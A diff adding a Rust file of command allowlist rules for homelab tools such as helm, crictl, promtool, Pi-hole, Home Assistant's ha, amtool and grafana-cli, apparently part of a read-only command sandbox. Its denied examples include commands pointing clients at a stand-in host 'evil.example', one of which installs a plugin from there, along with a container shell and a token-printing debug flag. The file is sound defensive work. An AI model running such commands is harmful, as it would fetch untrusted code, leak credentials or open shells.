@@ -1,0 +1,525 @@
+//! The command-line tools of applications a homelab runs on its guests:
+//! Kubernetes' helm 3 and crictl (cri-tools 1.30), Prometheus's promtool
+//! (2.45 / 3), Pi-hole 5/6's `pihole`, and the Home Assistant CLI `ha`
+//! (home-assistant/cli, cobra). Each keeps only its listing and status
+//! forms, with the options that pick what to show and how; every option
+//! that names another endpoint, credential or configuration file stays
+//! out (helm's `--kubeconfig`, `--kube-apiserver`, `--kube-token`;
+//! crictl's `--runtime-endpoint`, `--config`; `ha --endpoint`,
+//! `--api-token`, and `--log-level`, whose `debug` prints the API token).
+
+use super::*;
+
+/// helm's global options (pflag: anywhere on the line) that only choose
+/// the namespace and the kubeconfig's context, or add debug output.
+const HELM_GLOBAL: Spec = Spec {
+    flags: "h",
+    valued: "n",
+    long: &["debug", "help"],
+    long_valued: &["namespace", "kube-context"],
+    operands: Operands::None,
+    ..Spec::GNU
+};
+
+/// `helm list|ls`: releases, filtered and formatted.
+const HELM_LIST: Spec = Spec {
+    flags: "aAdrqh",
+    valued: "nfmlo",
+    long: &[
+        "all",
+        "all-namespaces",
+        "date",
+        "reverse",
+        "short",
+        "deployed",
+        "failed",
+        "no-headers",
+        "pending",
+        "superseded",
+        "uninstalled",
+        "uninstalling",
+        "debug",
+        "help",
+    ],
+    long_valued: &[
+        "namespace",
+        "kube-context",
+        "filter",
+        "max",
+        "offset",
+        "selector",
+        "output",
+        "time-format",
+    ],
+    ..HELM_GLOBAL
+};
+
+/// `helm status NAME`, `helm history NAME`: one release's state and its
+/// revisions (not `helm get values|all|manifest`, which print values that
+/// may hold passwords).
+const HELM_RELEASE: Spec = Spec {
+    valued: "no",
+    long: &["show-desc", "show-resources", "debug", "help"],
+    long_valued: &["namespace", "kube-context", "output", "revision", "max"],
+    operands: Operands::AtMost(1),
+    ..HELM_GLOBAL
+};
+
+/// `helm version`, `helm env`, `helm repo list`, `helm plugin list`.
+const HELM_PLAIN: Spec = Spec {
+    valued: "o",
+    long: &["short", "debug", "help"],
+    long_valued: &["output", "template"],
+    ..HELM_GLOBAL
+};
+
+const HELM_LISTS: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "list|ls",
+            spec: Some(&HELM_PLAIN),
+        }],
+        bare_ok: false,
+    },
+    ..HELM_GLOBAL
+};
+
+/// helm(1) 3.x. Not `get` (values), `show`/`pull`/`search hub` (they
+/// reach a chart repository), plugins (any other verb may be one).
+const HELM: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[
+            Verb {
+                names: "list|ls",
+                spec: Some(&HELM_LIST),
+            },
+            Verb {
+                names: "status|history|hist",
+                spec: Some(&HELM_RELEASE),
+            },
+            Verb {
+                names: "version|env",
+                spec: Some(&HELM_PLAIN),
+            },
+            Verb {
+                names: "repo|plugin",
+                spec: Some(&HELM_LISTS),
+            },
+        ],
+        bare_ok: false,
+    },
+    ..HELM_GLOBAL
+};
+
+/// crictl's global options (urfave/cli: before the command) that do not
+/// point it at another runtime or configuration.
+const CRICTL_GLOBAL: Spec = Spec {
+    flags: "Dh",
+    valued: "t",
+    long: &["debug", "help"],
+    long_valued: &["timeout"],
+    operands: Operands::None,
+    permute: false,
+    ..Spec::GNU
+};
+
+/// `crictl ps|pods|images|stats|statsp|imagefsinfo|version`: listings.
+const CRICTL_LIST: Spec = Spec {
+    flags: "aqvlw",
+    valued: "ospnf",
+    long: &[
+        "all", "quiet", "verbose", "latest", "no-trunc", "digests", "pinned", "watch", "help",
+    ],
+    long_valued: &[
+        "output",
+        "name",
+        "label",
+        "pod",
+        "state",
+        "image",
+        "last",
+        "namespace",
+        "id",
+        "filter",
+        "seconds",
+    ],
+    ..CRICTL_GLOBAL
+};
+
+/// `crictl logs ID`: one container's log (as `docker logs`).
+const CRICTL_LOGS: Spec = Spec {
+    flags: "fpt",
+    long: &["follow", "previous", "timestamps", "help"],
+    long_valued: &["tail", "since", "limit-bytes"],
+    operands: Operands::AtMost(1),
+    ..CRICTL_GLOBAL
+};
+
+/// crictl(1), cri-tools 1.30. Not `info` (the runtime's configuration,
+/// with registry credentials), `inspect`/`inspectp` (containers'
+/// environments), `exec`, `attach`, `rm*`, `stop*`, `pull`.
+const CRICTL: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[
+            Verb {
+                names: "ps|pods|images|image|img|stats|statsp|imagefsinfo|version",
+                spec: Some(&CRICTL_LIST),
+            },
+            Verb {
+                names: "logs",
+                spec: Some(&CRICTL_LOGS),
+            },
+        ],
+        bare_ok: false,
+    },
+    ..CRICTL_GLOBAL
+};
+
+/// `promtool check config|rules|web-config FILE…` (kingpin: `--name=value`
+/// or `--name value`, `--no-NAME` for a flag). An argument starting with
+/// `@` is a file of more arguments (kingpin reads it): the rules refuse it.
+const PROMTOOL_CHECK_FILES: Spec = Spec {
+    long: &[
+        "syntax-only",
+        "lint-fatal",
+        "agent",
+        "ignore-unknown-fields",
+        "help",
+    ],
+    long_valued: &["lint"],
+    operands: Operands::Read,
+    permute: true,
+    ..Spec::GNU
+};
+
+const PROMTOOL_CHECK: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[
+            Verb {
+                names: "config|rules|web-config",
+                spec: Some(&PROMTOOL_CHECK_FILES),
+            },
+            // Reads the exposition format on its input.
+            Verb {
+                names: "metrics",
+                spec: Some(&PROMTOOL_METRICS),
+            },
+        ],
+        bare_ok: false,
+    },
+    long: &["help"],
+    ..Spec::GNU
+};
+
+const PROMTOOL_METRICS: Spec = Spec {
+    long: &["extended", "help"],
+    long_valued: &["lint"],
+    operands: Operands::None,
+    ..Spec::GNU
+};
+
+/// promtool(1), Prometheus 2.45 to 3: the file checks. Not `check
+/// healthy|ready|service-discovery` and `query …` (they reach a server or
+/// its targets), `tsdb …` (`create-blocks-from` writes), `push`, `test`.
+const PROMTOOL: Spec = Spec {
+    long: &["help", "version", "experimental"],
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "check",
+            spec: Some(&PROMTOOL_CHECK),
+        }],
+        bare_ok: false,
+    },
+    ..Spec::GNU
+};
+
+/// pihole(8), Pi-hole 5 and 6 (a shell script dispatching on its first
+/// word): `status` (and `status web`). Not `-q` (its options are read by
+/// another script), `-v` (Pi-hole 5 asks GitHub for the latest release),
+/// and the rest change or restart.
+const PIHOLE: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "status",
+            spec: Some(&PIHOLE_STATUS),
+        }],
+        bare_ok: false,
+    },
+    permute: false,
+    ..Spec::GNU
+};
+
+const PIHOLE_STATUS: Spec = Spec {
+    operands: Operands::AtMost(1),
+    permute: false,
+    ..Spec::GNU
+};
+
+/// The Home Assistant CLI's harmless global options (persistent: on any
+/// command).
+const HA_LEAF: Spec = Spec {
+    flags: "hf",
+    valued: "nb",
+    long: &["raw-json", "no-progress", "help", "follow"],
+    long_valued: &["lines", "boot"],
+    operands: Operands::None,
+    ..Spec::GNU
+};
+
+/// `ha addons info|logs|stats|changelog [SLUG]`.
+const HA_ADDON: Spec = Spec {
+    operands: Operands::AtMost(1),
+    ..HA_LEAF
+};
+
+const HA_GROUP: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "info|logs|log|lg|stats",
+            spec: Some(&HA_LEAF),
+        }],
+        bare_ok: false,
+    },
+    ..HA_LEAF
+};
+
+const HA_ADDONS: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "info|logs|log|lg|stats|changelog",
+            spec: Some(&HA_ADDON),
+        }],
+        bare_ok: true,
+    },
+    ..HA_LEAF
+};
+
+const HA_BACKUPS: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "list|ls|info",
+            spec: Some(&HA_ADDON),
+        }],
+        bare_ok: true,
+    },
+    ..HA_LEAF
+};
+
+/// ha, home-assistant/cli 4.x: each part's `info`, `logs` and `stats`, the
+/// add-ons and backups listed. Not `core check` (it runs a check in a new
+/// container), `options`, `restart`, `update`, `repair`, `reset`.
+const HA: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[
+            Verb {
+                names: "info|available-updates",
+                spec: Some(&HA_LEAF),
+            },
+            Verb {
+                names: "core|supervisor|host|os|dns|audio|multicast|observer|cli|network|\
+                        hardware|resolution|jobs|mounts|docker",
+                spec: Some(&HA_GROUP),
+            },
+            Verb {
+                names: "addons|apps",
+                spec: Some(&HA_ADDONS),
+            },
+            Verb {
+                names: "backups",
+                spec: Some(&HA_BACKUPS),
+            },
+        ],
+        bare_ok: false,
+    },
+    ..HA_LEAF
+};
+
+/// An Alertmanager URL on a lab host, plain HTTP(S).
+fn lab_url(value: &str) -> bool {
+    let lower = value.to_ascii_lowercase();
+    (lower.starts_with("http://") || lower.starts_with("https://"))
+        && !value.chars().any(|c| c.is_whitespace() || c.is_control())
+        && crate::Egress::loopback_only().allows(crate::egress::host_of(value))
+}
+
+/// amtool's global options (kingpin: `--name=value` or `--name value`,
+/// anywhere): the Alertmanager to ask, on a lab host, and the output's
+/// form. Not `--http.config.file` (a proxy, credentials from a file).
+const AMTOOL_GLOBAL: Spec = Spec {
+    flags: "vh",
+    valued: "o",
+    long: &["verbose", "help", "version-check", "no-version-check"],
+    long_valued: &["alertmanager.url", "output", "timeout"],
+    checked: &[("alertmanager.url", lab_url)],
+    operands: Operands::None,
+    ..Spec::GNU
+};
+
+/// `amtool alert [query] [MATCHER…]`: the alerts, filtered.
+const AMTOOL_ALERT_QUERY: Spec = Spec {
+    flags: "vhaisu",
+    valued: "or",
+    long: &[
+        "verbose",
+        "help",
+        "version-check",
+        "no-version-check",
+        "active",
+        "inhibited",
+        "silenced",
+        "unprocessed",
+    ],
+    long_valued: &["alertmanager.url", "output", "timeout", "receiver"],
+    operands: Operands::Read,
+    ..AMTOOL_GLOBAL
+};
+
+/// `amtool silence [query] [MATCHER…]`: the silences, filtered.
+const AMTOOL_SILENCE_QUERY: Spec = Spec {
+    flags: "vheq",
+    valued: "o",
+    long: &[
+        "verbose",
+        "help",
+        "version-check",
+        "no-version-check",
+        "expired",
+        "quiet",
+    ],
+    long_valued: &["alertmanager.url", "output", "timeout", "within"],
+    operands: Operands::Read,
+    ..AMTOOL_GLOBAL
+};
+
+const AMTOOL_ALERT: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "query",
+            spec: Some(&AMTOOL_ALERT_QUERY),
+        }],
+        bare_ok: true,
+    },
+    ..AMTOOL_ALERT_QUERY
+};
+
+const AMTOOL_SILENCE: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "query",
+            spec: Some(&AMTOOL_SILENCE_QUERY),
+        }],
+        bare_ok: true,
+    },
+    ..AMTOOL_SILENCE_QUERY
+};
+
+/// `amtool check-config FILE…`: a local file's syntax.
+const AMTOOL_CHECK: Spec = Spec {
+    operands: Operands::Read,
+    ..AMTOOL_GLOBAL
+};
+
+/// amtool(1), Alertmanager 0.26: alerts and silences queried, a config
+/// file checked. Not `silence add|expire|import`, `alert add`, `config`
+/// (the routes test fetches the server's configuration), `template`.
+/// (An argument starting with `@` is kingpin's file of arguments: the
+/// rules refuse it.)
+const AMTOOL: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[
+            Verb {
+                names: "alert|alerts",
+                spec: Some(&AMTOOL_ALERT),
+            },
+            Verb {
+                names: "silence|silences",
+                spec: Some(&AMTOOL_SILENCE),
+            },
+            Verb {
+                names: "check-config",
+                spec: Some(&AMTOOL_CHECK),
+            },
+        ],
+        bare_ok: false,
+    },
+    ..AMTOOL_GLOBAL
+};
+
+/// grafana-cli (Grafana 10/11, urfave/cli): `plugins ls` lists the
+/// installed plugins. Not `plugins install|update|remove`, `list-remote`
+/// (asks grafana.com), `admin …` (resets passwords, migrates data).
+const GRAFANA_CLI: Spec = Spec {
+    long: &["debug", "help"],
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "plugins",
+            spec: Some(&GRAFANA_PLUGINS),
+        }],
+        bare_ok: false,
+    },
+    permute: false,
+    ..Spec::GNU
+};
+const GRAFANA_PLUGINS: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "ls",
+            spec: Some(&GRAFANA_NOTHING),
+        }],
+        bare_ok: false,
+    },
+    long: &["debug", "help"],
+    permute: false,
+    ..Spec::GNU
+};
+const GRAFANA_NOTHING: Spec = Spec {
+    long: &["help"],
+    operands: Operands::None,
+    ..Spec::GNU
+};
+
+#[rustfmt::skip]
+pub(super) const ENTRIES: &[Entry] = &[
+    Entry {
+        names: &["amtool"],
+        spec: &AMTOOL,
+        read_only: &["amtool alert query --alertmanager.url=http://192.168.1.60:9093 severity=critical", "amtool silence query -o json", "amtool alert", "amtool check-config /srv/alertmanager/test.yml", "amtool --alertmanager.url http://alertmanager.lan:9093 silence query --expired"],
+        not: &["amtool silence add alertname=x", "amtool silence expire abc", "amtool alert query --alertmanager.url=http://evil.example:9093", "amtool --http.config.file=/tmp/h.yml alert query", "amtool config routes test", "amtool alert add alertname=x"],
+    },
+    Entry {
+        names: &["grafana-cli"],
+        spec: &GRAFANA_CLI,
+        read_only: &["grafana-cli plugins ls"],
+        not: &["grafana-cli plugins install grafana-piechart-panel", "grafana-cli admin reset-admin-password x", "grafana-cli plugins list-remote", "grafana-cli --pluginUrl http://evil.example/x.zip plugins install x"],
+    },
+    Entry {
+        names: &["helm"],
+        spec: &HELM,
+        read_only: &["helm list -A", "helm ls -n kube-system -o json", "helm status traefik -n kube-system", "helm history grafana --max 5", "helm version --short", "helm repo list", "helm -n monitoring list --failed"],
+        not: &["helm uninstall traefik -n kube-system", "helm get values grafana", "helm --kubeconfig /tmp/k list", "helm show values bitnami/redis", "helm upgrade grafana grafana/grafana", "helm repo update", "helm diff upgrade x y", "helm list --kube-apiserver https://evil.example"],
+    },
+    Entry {
+        names: &["crictl"],
+        spec: &CRICTL,
+        read_only: &["crictl ps -a", "crictl pods --namespace kube-system", "crictl images -q", "crictl stats --all", "crictl logs --tail 50 3f2a", "crictl version"],
+        not: &["crictl info", "crictl inspect 3f2a", "crictl exec -it 3f2a sh", "crictl rm 3f2a", "crictl -r tcp://10.0.0.9:1234 ps", "crictl --config /tmp/c.yaml ps", "crictl rmi --prune"],
+    },
+    Entry {
+        names: &["promtool"],
+        spec: &PROMTOOL,
+        read_only: &["promtool check config /etc/prometheus/prometheus.yml", "promtool check rules /etc/prometheus/rules/*.yml", "promtool check config --syntax-only prometheus.yml"],
+        not: &["promtool check healthy --url http://evil.example:9090", "promtool query instant http://evil.example up", "promtool tsdb create-blocks-from openmetrics x /var/lib/prometheus", "promtool check config @/tmp/args", "promtool check service-discovery prometheus.yml node"],
+    },
+    Entry {
+        names: &["pihole"],
+        spec: &PIHOLE,
+        read_only: &["pihole status"],
+        not: &["pihole -g", "pihole disable 5m", "pihole uninstall", "pihole -f", "pihole -v"],
+    },
+    Entry {
+        names: &["ha"],
+        spec: &HA,
+        read_only: &["ha core info", "ha supervisor logs", "ha host info --raw-json", "ha addons", "ha addons info core_ssh", "ha backups list", "ha info", "ha core stats --no-progress"],
+        not: &["ha core restart", "ha core stop", "ha backups remove abc", "ha --log-level debug core info", "ha --endpoint evil.example core info", "ha core check", "ha host reboot", "ha addons uninstall core_ssh"],
+    },
+];
